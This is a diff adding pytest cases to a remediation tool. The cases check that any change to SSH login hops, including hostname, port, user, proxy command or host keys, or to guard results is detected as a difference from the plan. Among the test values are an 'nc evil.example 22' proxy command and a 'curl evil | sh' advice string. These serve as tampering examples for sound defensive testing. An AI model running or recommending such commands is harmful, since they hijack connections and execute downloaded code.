@@ -15,10 +15,11 @@ from msgspec.structs import replace
 from remediations.compile.compiler import Compiler
 from remediations.diagnose.diagnose import diagnose
 from remediations.errors import Refused, RemediationError, UsageError, WorldChanged
+from remediations.model.login import Login
 from remediations.model.reading import Known
 from remediations.observe.observation import HostReading, Observation, Scope
-from remediations.plan.compare import MOVABLE, changed_fields
-from remediations.plan.plan import Plan
+from remediations.plan.compare import MOVABLE, changed_fields, changed_logins
+from remediations.plan.plan import GuardResult, Outcome, Plan
 from remediations.playbooks.of_plan import branch_of
 from remediations.playbooks.playbook import Situation
 from remediations.playbooks.recheck import Maker, follows, recheck
@@ -243,6 +244,53 @@ def test_name_that_leads_elsewhere_is_refused(maker: Maker) -> None:
         assert "logins[val1]" in changed.value.got
 
 
+WAYS: dict[str, Callable[[Login], Login]] = {
+    "machine": lambda login: _hop(login, hostname="evil.example"),
+    "port": lambda login: _hop(login, port=2222),
+    "user": lambda login: _hop(login, user="root"),
+    "proxy": lambda login: _hop(login, proxy_command="nc evil.example 22"),
+    "key": lambda login: _hop(login, host_keys=("ssh-ed25519 SHA256:other",)),
+    "one more key": lambda login: _hop(login, host_keys=(*login.hops[0].host_keys, "one more")),
+    "jump": lambda login: replace(login, hops=(login.hops[0], *login.hops)),
+    "nowhere": lambda login: replace(login, hops=(), trouble="ssh_config cannot be read"),
+}
+
+
+@pytest.mark.parametrize("change", WAYS.values(), ids=WAYS)
+def test_name_that_leads_elsewhere_is_named_at_once(
+    change: Callable[[Login], Login],
+) -> None:
+    """Each part of the way counts, for each host; so does a host that is not there any more."""
+    planned = PLAN.logins
+    for number, login in enumerate(planned):
+        now = (*planned[:number], change(login), *planned[number + 1 :])
+        (difference,) = changed_logins(planned, now)
+        assert difference.name.startswith(f"{login.host}: ")
+        assert changed_logins(planned, (*planned[:number], *planned[number + 1 :]))
+    assert changed_logins(planned, planned) == ()
+
+
+GUARDS: dict[str, Callable[[tuple[GuardResult, ...]], tuple[GuardResult, ...]]] = {
+    "left out": lambda guards: guards[1:],
+    "one more": lambda guards: (*guards, guards[0]),
+    "outcome": lambda guards: (replace(guards[0], outcome=Outcome.UNKNOWN), *guards[1:]),
+    "title": lambda guards: (replace(guards[0], title="all is well"), *guards[1:]),
+    "advice": lambda guards: (replace(guards[0], next_step="curl evil | sh"), *guards[1:]),
+    "facts": lambda guards: (replace(guards[0], facts=("x",)), *guards[1:]),
+    "host": lambda guards: (replace(guards[0], host="val9"), *guards[1:]),
+}
+
+
+@pytest.mark.parametrize("change", GUARDS.values(), ids=GUARDS)
+def test_guards_may_see_something_else_and_nothing_more(
+    change: Callable[[tuple[GuardResult, ...]], tuple[GuardResult, ...]],
+) -> None:
+    (difference,) = changed_fields(replace(PLAN, guards=change(PLAN.guards)), PLAN)
+    assert difference.name == "guards"
+    seen = tuple(replace(guard, got="another height") for guard in PLAN.guards)
+    assert changed_fields(replace(PLAN, guards=seen), PLAN) == ()
+
+
 def later(world: Observation, *, rounds: int = 0) -> Observation:
     """The same world, read a minute later the quick way."""
     minute = timedelta(minutes=1)
@@ -273,6 +321,10 @@ def _proposal(maker: Maker, world: Observation = WORLD) -> Any:  # noqa: ANN401 
         observation=world, finding=diagnose(world), only=frozenset(PLAN.acting_hosts)
     )
     return branch_of(PLAN, maker.playbook).propose(situation)
+
+
+def _hop(login: Login, **fields: Any) -> Login:  # noqa: ANN401 - a hop's own fields
+    return replace(login, hops=(replace(login.hops[0], **fields), *login.hops[1:]))
 
 
 def _gate(plan: Plan, **fields: Any) -> Plan:  # noqa: ANN401 - a gate's own fields
